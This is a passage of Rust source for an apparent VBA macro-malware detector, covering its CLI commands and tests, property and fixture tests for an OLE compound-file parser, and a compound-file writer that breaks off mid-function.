    print!("{}", report.source);
    eprintln!(
        "folded {} string expressions, removed {} dead blocks and {} unused procedures \
         ({} -> {} chars)",
        report.folded_strings,
        report.removed_dead_blocks,
        report.removed_procedures,
        source.len(),
        report.source.len(),
    );
    Ok(())
}

pub fn corpus(args: &[String]) -> CmdResult {
    let flags = Flags::parse(args)?;
    let out: PathBuf = flags
        .values
        .get("out")
        .ok_or("corpus: --out DIR required")?
        .into();
    let scale = flags.get_f64("scale", 0.05)?;
    let seed = flags.get_u64("seed", 0xD512018)?;
    let spec = spec_at(scale, seed);

    std::fs::create_dir_all(out.join("benign"))?;
    std::fs::create_dir_all(out.join("malicious"))?;

    eprintln!(
        "generating {} macros in {} files…",
        spec.total_macros(),
        spec.total_files()
    );
    let macros = generate_macros(&spec);
    let factory = DocumentFactory::new(&spec, &macros);
    let mut written = 0usize;
    let mut io_error: Option<std::io::Error> = None;
    factory.for_each(|file| {
        if io_error.is_some() {
            return;
        }
        let dir = if file.malicious {
            "malicious"
        } else {
            "benign"
        };
        if let Err(e) = std::fs::write(out.join(dir).join(&file.name), &file.bytes) {
            io_error = Some(e);
            return;
        }
        written += 1;
    });
    if let Some(e) = io_error {
        return Err(e.into());
    }

    // Labels file: name, class, module count.
    let mut labels = String::from("file,malicious,modules\n");
    let factory = DocumentFactory::new(&spec, &macros);
    factory.for_each(|file| {
        labels.push_str(&format!(
            "{},{},{}\n",
            file.name, file.malicious, file.module_count
        ));
    });
    std::fs::write(out.join("labels.csv"), labels)?;
    eprintln!(
        "wrote {written} documents + labels.csv to {}",
        out.display()
    );
    Ok(())
}

pub fn train(args: &[String]) -> CmdResult {
    let flags = Flags::parse(args)?;
    let out = flags
        .values
        .get("out")
        .ok_or("train: --out FILE required")?;
    let scale = flags.get_f64("scale", 0.25)?;
    let seed = flags.get_u64("seed", 0xD5)?;
    let classifier = match flags.values.get("classifier") {
        Some(name) => classifier_by_name(name)?,
        None => ClassifierKind::Mlp,
    };
    eprintln!("training {classifier} on synthetic corpus (scale {scale})…");
    let config = DetectorConfig {
        classifier,
        seed,
        ..DetectorConfig::default()
    };
    let detector = Detector::train_on_corpus(&config, &spec_at(scale, seed));
    let text = detector.save();
    std::fs::write(out, &text)?;
    eprintln!("saved {} bytes to {out}", text.len());
    Ok(())
}

pub fn evaluate(args: &[String]) -> CmdResult {
    let flags = Flags::parse(args)?;
    let scale = flags.get_f64("scale", 1.0)?;
    let folds = flags.get_usize("folds", 10)?;
    let seed = flags.get_u64("seed", 0xD512018)?;
    let spec = spec_at(scale, seed);

    eprintln!(
        "corpus: {} macros; {folds}-fold CV for 5 classifiers x 2 feature sets…",
        spec.total_macros()
    );
    let data = vbadet::experiment::ExperimentData::from_spec(&spec);
    let results = vbadet::experiment::evaluate_all(&data, folds, seed);
    println!(
        "{:<8} {:<6} {:>9} {:>10} {:>8} {:>8} {:>7}",
        "features", "clf", "accuracy", "precision", "recall", "F2", "AUC"
    );
    for r in &results {
        println!(
            "{:<8} {:<6} {:>9.3} {:>10.3} {:>8.3} {:>8.3} {:>7.3}",
            r.feature_set.to_string(),
            r.classifier.name(),
            r.accuracy,
            r.precision,
            r.recall,
            r.f2,
            r.auc
        );
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strs(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn flags_parse_pairs_and_positionals() {
        let f = Flags::parse(&strs(&["--scale", "0.5", "a.doc", "--seed", "7", "b.doc"])).unwrap();
        assert_eq!(f.get_f64("scale", 1.0).unwrap(), 0.5);
        assert_eq!(f.get_u64("seed", 0).unwrap(), 7);
        assert_eq!(f.positional, strs(&["a.doc", "b.doc"]));
    }

    #[test]
    fn flags_defaults_apply() {
        let f = Flags::parse(&strs(&["x"])).unwrap();
        assert_eq!(f.get_f64("scale", 0.1).unwrap(), 0.1);
        assert_eq!(f.get_usize("folds", 10).unwrap(), 10);
    }

    #[test]
    fn missing_flag_value_is_an_error() {
        assert!(Flags::parse(&strs(&["--scale"])).is_err());
    }

    #[test]
    fn switches_parse_without_values() {
        let f = Flags::parse(&strs(&["--ladder", "a.doc"])).unwrap();
        assert!(f.has("ladder"));
        assert!(!f.has("turbo"));
        assert_eq!(f.positional, strs(&["a.doc"]));
    }

    #[test]
    fn bad_numeric_value_is_an_error() {
        let f = Flags::parse(&strs(&["--scale", "abc"])).unwrap();
        assert!(f.get_f64("scale", 1.0).is_err());
    }

    #[test]
    fn classifier_names_resolve() {
        for (name, expected) in [
            ("svm", ClassifierKind::Svm),
            ("RF", ClassifierKind::RandomForest),
            ("mlp", ClassifierKind::Mlp),
            ("lda", ClassifierKind::Lda),
            ("bnb", ClassifierKind::BernoulliNb),
        ] {
            assert_eq!(classifier_by_name(name).unwrap(), expected);
        }
        assert!(classifier_by_name("xgboost").is_err());
    }

    #[test]
    fn spec_scaling() {
        assert_eq!(spec_at(1.0, 5).total_macros(), 4212);
        assert!(spec_at(0.1, 5).total_macros() < 500);
    }
}

#[cfg(test)]
mod command_tests {
    use super::*;

    fn strs2(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn scan_requires_files() {
        assert!(scan(&[]).is_err());
    }

    #[test]
    fn scan_missing_file_is_an_error() {
        // Training runs first, so keep the corpus tiny.
        let err = scan(&strs2(&["--scale", "0.002", "/nonexistent/file.doc"]));
        assert!(err.is_err());
    }

    #[test]
    fn scan_processes_whole_batch_before_failing() {
        // A bad first input must not prevent the later good input from
        // being scanned; the command fails only at the end.
        let dir = std::env::temp_dir().join("vbadet_cli_test_batch");
        std::fs::create_dir_all(&dir).unwrap();
        let good = dir.join("good.bin");
        let mut b = vbadet_ovba::VbaProjectBuilder::new("P");
        b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
        std::fs::write(&good, b.build().unwrap()).unwrap();
        let junk = dir.join("junk.doc");
        std::fs::write(&junk, b"definitely not a document").unwrap();

        let err = scan(&strs2(&[
            "--scale",
            "0.002",
            junk.to_str().unwrap(),
            good.to_str().unwrap(),
        ]));
        // The batch ran to completion (no early `?` abort on the junk
        // file) and reported the per-file failure via the exit status.
        assert!(err
            .unwrap_err()
            .to_string()
            .contains("1 of 2 inputs failed"));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn scan_journal_and_resume_roundtrip() {
        let dir = std::env::temp_dir().join("vbadet_cli_test_journal");
        std::fs::create_dir_all(&dir).unwrap();
        let good = dir.join("good.bin");
        let mut b = vbadet_ovba::VbaProjectBuilder::new("P");
        b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
        std::fs::write(&good, b.build().unwrap()).unwrap();
        let journal = dir.join("scan.jsonl");

        scan(&strs2(&[
            "--scale",
            "0.002",
            "--ladder",
            "--journal",
            journal.to_str().unwrap(),
            good.to_str().unwrap(),
        ]))
        .unwrap();
        assert!(journal.metadata().unwrap().len() > 0);
        // Resuming from the journal replays the recorded outcome instead
        // of rescanning, and still exits cleanly.
        scan(&strs2(&[
            "--scale",
            "0.002",
            "--resume",
            journal.to_str().unwrap(),
            good.to_str().unwrap(),
        ]))
        .unwrap();
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn scan_with_jobs_processes_the_whole_batch() {
        // `--jobs 4` must behave exactly like the sequential engine: every
        // input processed, per-file failures reported only at the end.
        let dir = std::env::temp_dir().join("vbadet_cli_test_jobs");
        std::fs::create_dir_all(&dir).unwrap();
        let good = dir.join("good.bin");
        let mut b = vbadet_ovba::VbaProjectBuilder::new("P");
        b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
        std::fs::write(&good, b.build().unwrap()).unwrap();
        let junk = dir.join("junk.doc");
        std::fs::write(&junk, b"definitely not a document").unwrap();

        let err = scan(&strs2(&[
            "--scale",
            "0.002",
            "--jobs",
            "4",
            junk.to_str().unwrap(),
            good.to_str().unwrap(),
        ]));
        assert!(err
            .unwrap_err()
            .to_string()
            .contains("1 of 2 inputs failed"));

        let bad = scan(&strs2(&["--jobs", "zero?", good.to_str().unwrap()]));
        assert!(bad.is_err(), "non-numeric --jobs must be rejected");

        // `--jobs 0` is rejected with a clear error, never silently
        // reinterpreted as "default" or "sequential".
        let zero = scan(&strs2(&["--jobs", "0", good.to_str().unwrap()]));
        let msg = zero.unwrap_err().to_string();
        assert!(
            msg.contains("--jobs must be at least 1"),
            "zero-jobs error was {msg:?}"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn scan_metrics_json_counters_identical_across_jobs() {
        // The ISSUE's determinism contract at the CLI boundary: the
        // `counters` section of `--metrics-json` output must be
        // byte-identical whether the scan ran sequentially or on a pool.
        let dir = std::env::temp_dir().join("vbadet_cli_test_metrics");
        std::fs::create_dir_all(&dir).unwrap();
        let mut inputs = Vec::new();
        for i in 0..6 {
            let path = dir.join(format!("doc{i}.bin"));
            let mut b = vbadet_ovba::VbaProjectBuilder::new("P");
            b.add_module(
                "Module1",
                &format!("Sub W{i}()\r\n    x = {i}\r\nEnd Sub\r\n"),
            );
            std::fs::write(&path, b.build().unwrap()).unwrap();
            inputs.push(path.to_str().unwrap().to_string());
        }
        let junk = dir.join("junk.doc");
        std::fs::write(&junk, b"not a document at all").unwrap();
        inputs.push(junk.to_str().unwrap().to_string());

        let run = |jobs: &str, out: &std::path::Path| {
            let mut args = strs2(&[
                "--scale",
                "0.002",
                "--jobs",
                jobs,
                "--metrics-json",
                out.to_str().unwrap(),
            ]);
            args.extend(inputs.iter().cloned());
            // The junk input makes the batch exit non-zero; metrics must
            // have been written anyway.
            assert!(scan(&args).is_err());
            vbadet::ScanMetrics::from_json(&std::fs::read_to_string(out).unwrap()).unwrap()
        };
        let seq = run("1", &dir.join("seq.json"));
        let par = run("4", &dir.join("par.json"));
        assert_eq!(seq.counters_json(), par.counters_json());
        assert_eq!(seq.counter("scan.docs"), 7);
        assert_eq!(seq.counter("scan.failed.unknown-container"), 1);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn scan_rejects_unknown_limit_profile() {
        let err = scan(&strs2(&["--limits", "paranoid", "whatever.doc"]));
        assert!(err
            .unwrap_err()
            .to_string()
            .contains("unknown limits profile"));
    }

    #[test]
    fn extract_requires_a_file() {
        assert!(extract(&[]).is_err());
        assert!(extract(&strs2(&["/nonexistent.doc"])).is_err());
    }

    #[test]
    fn obfuscate_rejects_unknown_techniques() {
        let dir = std::env::temp_dir().join("vbadet_cli_test_obf");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("m.vba");
        std::fs::write(&path, "Sub A()\r\nEnd Sub\r\n").unwrap();
        let err = obfuscate(&strs2(&["--techniques", "o9", path.to_str().unwrap()]));
        assert!(err.is_err());
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn corpus_requires_out_dir() {
        assert!(corpus(&[]).is_err());
    }

    #[test]
    fn train_and_scan_model_roundtrip_via_files() {
        let dir = std::env::temp_dir().join("vbadet_cli_test_train");
        std::fs::create_dir_all(&dir).unwrap();
        let model = dir.join("model.txt");
        train(&strs2(&[
            "--out",
            model.to_str().unwrap(),
            "--scale",
            "0.004",
        ]))
        .unwrap();
        assert!(model.metadata().unwrap().len() > 100);
        // A detector loaded from the file scores without error.
        let detector = vbadet::Detector::load(&std::fs::read_to_string(&model).unwrap()).unwrap();
        let v = detector.score("Sub A()\r\n    x = 1\r\nEnd Sub\r\n");
        assert!(v.score.is_finite());
        let _ = std::fs::remove_dir_all(&dir);
    }
}
