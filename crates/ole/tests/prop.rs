//! Property-based tests: write-then-parse preserves the tree and all stream
//! contents; the parser is total on corrupted inputs.

use proptest::prelude::*;
use vbadet_ole::{OleBuilder, OleFile};

/// Strategy: a set of stream paths (depth <= 3) with arbitrary payloads
/// spanning the mini/regular cutoff.
fn arb_streams() -> impl Strategy<Value = Vec<(String, Vec<u8>)>> {
    proptest::collection::vec(
        (
            "[A-Za-z][A-Za-z0-9_]{0,14}(/[A-Za-z][A-Za-z0-9_]{0,14}){0,2}",
            prop_oneof![
                proptest::collection::vec(any::<u8>(), 0..256),
                proptest::collection::vec(any::<u8>(), 4000..4200),
                proptest::collection::vec(any::<u8>(), 8000..9000),
            ],
        ),
        0..10,
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn write_parse_roundtrip(streams in arb_streams()) {
        let mut builder = OleBuilder::new();
        let mut expected: Vec<(String, Vec<u8>)> = Vec::new();
        for (path, data) in streams {
            // Skip paths that collide with already-added streams/storages
            // (the builder rejects them; that behaviour has its own tests).
            if builder.add_stream(&path, &data).is_ok() {
                expected.push((path, data));
            }
        }
        let bytes = builder.build();
        let ole = OleFile::parse(&bytes).unwrap();
        prop_assert_eq!(ole.stream_paths().unwrap().len(), expected.len());
        for (path, data) in &expected {
            prop_assert_eq!(&ole.open_stream(path).unwrap(), data, "path {}", path);
        }
    }

    /// Any single corrupted byte must not cause a panic (errors are fine).
    #[test]
    fn parser_total_under_corruption(offset in 0usize..8192, xor in 1u8..=255) {
        let mut builder = OleBuilder::new();
        builder.add_stream("Macros/VBA/dir", &[1u8; 100]).unwrap();
        builder.add_stream("WordDocument", &[2u8; 5000]).unwrap();
        let mut bytes = builder.build();
        let idx = offset % bytes.len();
        bytes[idx] ^= xor;
        if let Ok(ole) = OleFile::parse(&bytes) {
            for path in ole.stream_paths().unwrap() {
                let _ = ole.open_stream(&path);
            }
        }
    }

    /// Truncation at any point must not cause a panic.
    #[test]
    fn parser_total_under_truncation(keep_fraction in 0.0f64..1.0) {
        let mut builder = OleBuilder::new();
        builder.add_stream("a/b/c", &[7u8; 600]).unwrap();
        builder.add_stream("big", &[9u8; 20_000]).unwrap();
        let bytes = builder.build();
        let keep = ((bytes.len() as f64) * keep_fraction) as usize;
        let _ = OleFile::parse(&bytes[..keep]);
    }
}
