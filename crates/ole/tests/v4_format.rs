//! Version-4 compound files (4096-byte sectors): the writer only emits v3,
//! so this fixture is assembled by hand from the MS-CFB layout rules.

use vbadet_ole::OleFile;

const FREESECT: u32 = 0xFFFF_FFFF;
const ENDOFCHAIN: u32 = 0xFFFF_FFFE;
const FATSECT: u32 = 0xFFFF_FFFD;
const NOSTREAM: u32 = 0xFFFF_FFFF;
const SECTOR: usize = 4096;

fn push_u32(buf: &mut Vec<u8>, v: u32) {
    buf.extend_from_slice(&v.to_le_bytes());
}

/// Builds a v4 file: [header+pad][FAT][directory][data x2] with one stream
/// "Data" of `payload.len()` bytes (must need exactly two 4096 sectors).
fn build_v4(payload: &[u8]) -> Vec<u8> {
    assert!(payload.len() > SECTOR && payload.len() <= 2 * SECTOR);
    let mut out = Vec::new();

    // --- header (512 bytes) ---
    out.extend_from_slice(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
    out.extend_from_slice(&[0u8; 16]); // CLSID
    out.extend_from_slice(&0x003Eu16.to_le_bytes()); // minor
    out.extend_from_slice(&4u16.to_le_bytes()); // major = 4
    out.extend_from_slice(&0xFFFEu16.to_le_bytes()); // byte order
    out.extend_from_slice(&12u16.to_le_bytes()); // sector shift = 12
    out.extend_from_slice(&6u16.to_le_bytes()); // mini shift
    out.extend_from_slice(&[0u8; 6]); // reserved
    push_u32(&mut out, 1); // num dir sectors (v4 records it)
    push_u32(&mut out, 1); // num FAT sectors
    push_u32(&mut out, 1); // first dir sector
    push_u32(&mut out, 0); // transaction
    push_u32(&mut out, 4096); // mini cutoff
    push_u32(&mut out, ENDOFCHAIN); // first minifat
    push_u32(&mut out, 0); // num minifat
    push_u32(&mut out, ENDOFCHAIN); // first difat
    push_u32(&mut out, 0); // num difat
    push_u32(&mut out, 0); // DIFAT[0] -> FAT at sector 0
    for _ in 1..109 {
        push_u32(&mut out, FREESECT);
    }
    assert_eq!(out.len(), 512);
    out.resize(SECTOR, 0); // v4: sectors begin at offset 4096

    // --- sector 0: FAT ---
    let fat_start = out.len();
    push_u32(&mut out, FATSECT); // sector 0 holds FAT entries
    push_u32(&mut out, ENDOFCHAIN); // sector 1: directory chain end
    push_u32(&mut out, 3); // sector 2 -> 3 (data chain)
    push_u32(&mut out, ENDOFCHAIN); // sector 3: data chain end
    while out.len() < fat_start + SECTOR {
        push_u32(&mut out, FREESECT);
    }

    // --- sector 1: directory ---
    let dir_start = out.len();
    let entry = |name: &str, typ: u8, child: u32, start: u32, size: u64, out: &mut Vec<u8>| {
        let base = out.len();
        out.resize(base + 128, 0);
        for (i, u) in name.encode_utf16().enumerate() {
            out[base + 2 * i..base + 2 * i + 2].copy_from_slice(&u.to_le_bytes());
        }
        let name_len = ((name.encode_utf16().count() + 1) * 2) as u16;
        out[base + 64..base + 66].copy_from_slice(&name_len.to_le_bytes());
        out[base + 66] = typ;
        out[base + 67] = 1; // black
        out[base + 68..base + 72].copy_from_slice(&NOSTREAM.to_le_bytes());
        out[base + 72..base + 76].copy_from_slice(&NOSTREAM.to_le_bytes());
        out[base + 76..base + 80].copy_from_slice(&child.to_le_bytes());
        out[base + 116..base + 120].copy_from_slice(&start.to_le_bytes());
        out[base + 120..base + 128].copy_from_slice(&size.to_le_bytes());
    };
    entry("Root Entry", 5, 1, ENDOFCHAIN, 0, &mut out);
    entry("Data", 2, NOSTREAM, 2, payload.len() as u64, &mut out);
    out.resize(dir_start + SECTOR, 0);

    // --- sectors 2-3: data ---
    let data_start = out.len();
    out.extend_from_slice(payload);
    out.resize(data_start + 2 * SECTOR, 0);
    out
}

#[test]
fn v4_file_parses_and_streams_read() {
    let payload: Vec<u8> = (0..5000u32).map(|i| (i % 251) as u8).collect();
    let bytes = build_v4(&payload);
    let ole = OleFile::parse(&bytes).expect("v4 parses");
    assert_eq!(ole.sector_size(), 4096);
    assert_eq!(ole.open_stream("Data").expect("stream reads"), payload);
    assert_eq!(ole.stream_paths().unwrap(), vec!["Data".to_string()]);
}

#[test]
fn v4_with_wrong_shift_rejected() {
    let payload = vec![1u8; 5000];
    let mut bytes = build_v4(&payload);
    // Corrupt the sector shift: major 4 must pair with shift 12.
    bytes[30] = 9;
    assert!(OleFile::parse(&bytes).is_err());
}

#[test]
fn v4_truncation_is_an_error_not_a_panic() {
    let payload = vec![2u8; 5000];
    let bytes = build_v4(&payload);
    for cut in [513usize, 4096, 8192, bytes.len() - 100] {
        let _ = OleFile::parse(&bytes[..cut]);
    }
}
