//! Hostile directory-tree depth: a 10k-deep storage chain must surface a
//! typed `LimitExceeded`, never stack exhaustion — the tree walk is
//! iterative, so the cap is semantic, not a recursion guard.

use vbadet_ole::{OleBuilder, OleError, OleFile, OleLimits};

/// Builds a compound file whose directory tree is a storage chain `depth`
/// levels deep with a single stream at the bottom.
fn deep_chain(depth: usize) -> Vec<u8> {
    let mut path = String::new();
    for _ in 0..depth {
        path.push_str("d/");
    }
    path.push_str("leaf");
    let mut b = OleBuilder::new();
    b.add_stream(&path, b"bottom").unwrap();
    b.build()
}

#[test]
fn ten_k_deep_directory_chain_is_a_typed_limit_breach() {
    let bytes = deep_chain(10_000);
    let ole = OleFile::parse(&bytes).unwrap();
    assert!(matches!(
        ole.stream_paths(),
        Err(OleError::LimitExceeded {
            what: "directory depth",
            ..
        })
    ));
}

#[test]
fn chain_at_the_cap_still_walks() {
    let limits = OleLimits {
        max_dir_depth: 40,
        ..OleLimits::default()
    };
    let bytes = deep_chain(40);
    let ole = OleFile::parse_with_limits(&bytes, limits).unwrap();
    let paths = ole.stream_paths().unwrap();
    assert_eq!(paths.len(), 1);
    assert!(paths[0].ends_with("/leaf"));

    let too_deep = deep_chain(41);
    let ole = OleFile::parse_with_limits(&too_deep, limits).unwrap();
    assert!(matches!(
        ole.stream_paths(),
        Err(OleError::LimitExceeded {
            what: "directory depth",
            limit: 40,
        })
    ));
}
