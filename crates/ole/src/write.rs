//! Compound file writing (version 3, 512-byte sectors).

use crate::consts::*;
use crate::entry::{name_cmp, validate_name, ObjectType};
use crate::OleError;
use std::collections::BTreeMap;

/// In-memory tree node used while building.
#[derive(Debug, Default)]
struct Node {
    /// Child name -> node index, kept sorted for determinism.
    children: BTreeMap<String, usize>,
    /// Stream payload (None for storages).
    data: Option<Vec<u8>>,
}

/// Builds compound files from a tree of storages and streams.
///
/// Paths are `/`-separated; intermediate storages are created implicitly.
///
/// ```
/// use vbadet_ole::{OleBuilder, OleFile};
/// # fn main() -> Result<(), vbadet_ole::OleError> {
/// let mut b = OleBuilder::new();
/// b.add_stream("WordDocument", &vec![0u8; 8192])?;
/// b.add_stream("Macros/VBA/Module1", b"small stream")?;
/// let ole = OleFile::parse(&b.build())?;
/// assert_eq!(ole.open_stream("Macros/VBA/Module1")?, b"small stream");
/// # Ok(())
/// # }
/// ```
#[derive(Debug)]
pub struct OleBuilder {
    /// Arena of nodes; index 0 is the root storage.
    nodes: Vec<Node>,
}

impl Default for OleBuilder {
    fn default() -> Self {
        Self::new()
    }
}

impl OleBuilder {
    /// Creates an empty builder (just a root storage).
    pub fn new() -> Self {
        OleBuilder {
            nodes: vec![Node::default()],
        }
    }

    fn ensure_storage(
        &mut self,
        path_so_far: &str,
        parent: usize,
        name: &str,
    ) -> Result<usize, OleError> {
        validate_name(name)?;
        if let Some(&idx) = self.nodes[parent].children.get(name) {
            if self.nodes[idx].data.is_some() {
                return Err(OleError::WrongType(format!("{path_so_far}{name}")));
            }
            return Ok(idx);
        }
        self.nodes.push(Node::default());
        let idx = self.nodes.len() - 1;
        self.nodes[parent].children.insert(name.to_string(), idx);
        Ok(idx)
    }

    /// Creates a storage (and any missing ancestors) at `path`.
    ///
    /// # Errors
    ///
    /// Fails on invalid names or if a stream already occupies a component.
    pub fn add_storage(&mut self, path: &str) -> Result<&mut Self, OleError> {
        let mut current = 0usize;
        let mut walked = String::new();
        for component in path.split('/').filter(|c| !c.is_empty()) {
            current = self.ensure_storage(&walked, current, component)?;
            walked.push_str(component);
            walked.push('/');
        }
        Ok(self)
    }

    /// Adds a stream at `path`, creating intermediate storages.
    ///
    /// # Errors
    ///
    /// Fails on invalid names, duplicate paths, or when a component collides
    /// with an existing stream.
    pub fn add_stream(&mut self, path: &str, data: &[u8]) -> Result<&mut Self, OleError> {
        let components: Vec<&str> = path.split('/').filter(|c| !c.is_empty()).collect();
        let (stream_name, dirs) = components
            .split_last()
            .ok_or_else(|| OleError::InvalidName(path.to_string()))?;
        validate_name(stream_name)?;
        let mut current = 0usize;
        let mut walked = String::new();
        for component in dirs {
            current = self.ensure_storage(&walked, current, component)?;
            walked.push_str(component);
            walked.push('/');
        }
        if self.nodes[current].children.contains_key(*stream_name) {
            return Err(OleError::DuplicatePath(path.to_string()));
        }
        self.nodes.push(Node {
            children: BTreeMap::new(),
            data: Some(data.to_vec()),
        });
        let idx = self.nodes.len() - 1;
        self.nodes[current]
            .children
            .insert(stream_name.to_string(), idx);
        Ok(self)
    }

    /// Serializes the tree to compound-file bytes.
    pub fn build(&self) -> Vec<u8> {
        // --- 1. Flatten the tree into directory entries. ---------------
        // Entry 0 is the root; children of each storage become a balanced
        // BST threaded through left/right, referenced from `child`.
        struct FlatEntry {
            name: String,
            object_type: ObjectType,
            left: u32,
            right: u32,
            child: u32,
            data: Option<Vec<u8>>,
        }
        let mut flat: Vec<FlatEntry> = vec![FlatEntry {
            name: "Root Entry".to_string(),
            object_type: ObjectType::Root,
            left: NOSTREAM,
            right: NOSTREAM,
            child: NOSTREAM,
            data: None,
        }];

        // Recursively allocate ids: storages carry their children as BSTs.
        fn balanced_bst(ids: &[u32], flat: &mut [FlatEntry], order: &[usize]) -> u32 {
            // `ids` is sorted by CFB name order; pick the middle as subtree
            // root for balance.
            let _ = order;
            if ids.is_empty() {
                return NOSTREAM;
            }
            let mid = ids.len() / 2;
            let root = ids[mid];
            let left = balanced_bst(&ids[..mid], flat, order);
            let right = balanced_bst(&ids[mid + 1..], flat, order);
            flat[root as usize].left = left;
            flat[root as usize].right = right;
            root
        }

        // Iterative DFS assigning entry ids.
        let mut stack: Vec<(usize, u32)> = vec![(0usize, 0u32)]; // (node idx, flat id)
        while let Some((node_idx, flat_id)) = stack.pop() {
            let mut child_names: Vec<&String> = self.nodes[node_idx].children.keys().collect();
            child_names.sort_by(|a, b| name_cmp(a, b));
            let mut child_ids = Vec::with_capacity(child_names.len());
            for name in child_names {
                let child_node = self.nodes[node_idx].children[name];
                let data = self.nodes[child_node].data.clone();
                let object_type = if data.is_some() {
                    ObjectType::Stream
                } else {
                    ObjectType::Storage
                };
                flat.push(FlatEntry {
                    name: name.clone(),
                    object_type,
                    left: NOSTREAM,
                    right: NOSTREAM,
                    child: NOSTREAM,
                    data,
                });
                let id = (flat.len() - 1) as u32;
                child_ids.push(id);
                if object_type == ObjectType::Storage {
                    stack.push((child_node, id));
                }
            }
            let root_child = balanced_bst(&child_ids, &mut flat, &[]);
            flat[flat_id as usize].child = root_child;
        }

        // --- 2. Partition streams into mini and regular. ----------------
        // Mini stream: concatenation of all small streams, 64-byte aligned.
        let mut mini_stream: Vec<u8> = Vec::new();
        let mut minifat: Vec<u32> = Vec::new();
        // start sector (mini or regular) per flat entry.
        let mut start_sector: Vec<u32> = vec![ENDOFCHAIN; flat.len()];

        // Regular stream payloads in order; chains assigned later.
        let mut regular: Vec<(usize, &Vec<u8>)> = Vec::new();
        for (id, entry) in flat.iter().enumerate() {
            if let Some(data) = &entry.data {
                if (data.len() as u32) < MINI_STREAM_CUTOFF {
                    if data.is_empty() {
                        start_sector[id] = ENDOFCHAIN;
                        continue;
                    }
                    let first = (mini_stream.len() / MINI_SECTOR_SIZE) as u32;
                    start_sector[id] = first;
                    mini_stream.extend_from_slice(data);
                    // Pad to a mini-sector boundary.
                    while !mini_stream.len().is_multiple_of(MINI_SECTOR_SIZE) {
                        mini_stream.push(0);
                    }
                    let nsec = (mini_stream.len() / MINI_SECTOR_SIZE) as u32 - first;
                    for i in 0..nsec {
                        minifat.push(if i + 1 == nsec {
                            ENDOFCHAIN
                        } else {
                            first + i + 1
                        });
                    }
                } else {
                    regular.push((id, data));
                }
            }
        }

        let sect = SECTOR_SIZE_V3;
        let sectors_of = |len: usize| len.div_ceil(sect);

        // --- 3. Compute sector layout. ----------------------------------
        let dir_sectors = (flat.len() * DIR_ENTRY_SIZE).div_ceil(sect).max(1);
        let minifat_sectors = (minifat.len() * 4).div_ceil(sect);
        let ministream_sectors = sectors_of(mini_stream.len());
        let regular_sectors: usize = regular.iter().map(|(_, d)| sectors_of(d.len())).sum();
        let data_sectors = dir_sectors + minifat_sectors + ministream_sectors + regular_sectors;

        // FAT sizing: F FAT sectors + D DIFAT sectors must also be mapped.
        let entries_per_fat = sect / 4;
        let mut fat_sectors = 1usize;
        let mut difat_sectors;
        loop {
            difat_sectors = if fat_sectors <= HEADER_DIFAT_ENTRIES {
                0
            } else {
                (fat_sectors - HEADER_DIFAT_ENTRIES).div_ceil(entries_per_fat - 1)
            };
            let total = data_sectors + fat_sectors + difat_sectors;
            if fat_sectors * entries_per_fat >= total {
                break;
            }
            fat_sectors += 1;
        }
        let total_sectors = data_sectors + fat_sectors + difat_sectors;

        // Layout: [DIFAT][FAT][directory][miniFAT][ministream][regular...]
        let difat_start = 0usize;
        let fat_start = difat_start + difat_sectors;
        let dir_start = fat_start + fat_sectors;
        let minifat_start = dir_start + dir_sectors;
        let ministream_start = minifat_start + minifat_sectors;
        let regular_start = ministream_start + ministream_sectors;

        let mut fat = vec![FREESECT; fat_sectors * entries_per_fat];
        let chain = |fat: &mut Vec<u32>, start: usize, count: usize| {
            for i in 0..count {
                fat[start + i] = if i + 1 == count {
                    ENDOFCHAIN
                } else {
                    (start + i + 1) as u32
                };
            }
        };
        for i in 0..difat_sectors {
            fat[difat_start + i] = DIFSECT;
        }
        for i in 0..fat_sectors {
            fat[fat_start + i] = FATSECT;
        }
        chain(&mut fat, dir_start, dir_sectors);
        if minifat_sectors > 0 {
            chain(&mut fat, minifat_start, minifat_sectors);
        }
        if ministream_sectors > 0 {
            chain(&mut fat, ministream_start, ministream_sectors);
        }
        let mut next_regular = regular_start;
        for (id, data) in &regular {
            let n = sectors_of(data.len());
            start_sector[*id] = next_regular as u32;
            chain(&mut fat, next_regular, n);
            next_regular += n;
        }
        debug_assert_eq!(next_regular, total_sectors);

        // Root entry's "stream" is the mini stream.
        start_sector[0] = if ministream_sectors > 0 {
            ministream_start as u32
        } else {
            ENDOFCHAIN
        };

        // --- 4. Serialize. ----------------------------------------------
        let mut out = Vec::with_capacity(512 + total_sectors * sect);

        // Header.
        out.extend_from_slice(&SIGNATURE);
        out.extend_from_slice(&[0u8; 16]); // CLSID
        out.extend_from_slice(&0x003Eu16.to_le_bytes()); // minor version
        out.extend_from_slice(&3u16.to_le_bytes()); // major version
        out.extend_from_slice(&0xFFFEu16.to_le_bytes()); // byte order
        out.extend_from_slice(&9u16.to_le_bytes()); // sector shift
        out.extend_from_slice(&6u16.to_le_bytes()); // mini sector shift
        out.extend_from_slice(&[0u8; 6]); // reserved
        out.extend_from_slice(&0u32.to_le_bytes()); // num dir sectors (v3: 0)
        out.extend_from_slice(&(fat_sectors as u32).to_le_bytes());
        out.extend_from_slice(&(dir_start as u32).to_le_bytes());
        out.extend_from_slice(&0u32.to_le_bytes()); // transaction signature
        out.extend_from_slice(&MINI_STREAM_CUTOFF.to_le_bytes());
        let first_minifat = if minifat_sectors > 0 {
            minifat_start as u32
        } else {
            ENDOFCHAIN
        };
        out.extend_from_slice(&first_minifat.to_le_bytes());
        out.extend_from_slice(&(minifat_sectors as u32).to_le_bytes());
        let first_difat = if difat_sectors > 0 {
            difat_start as u32
        } else {
            ENDOFCHAIN
        };
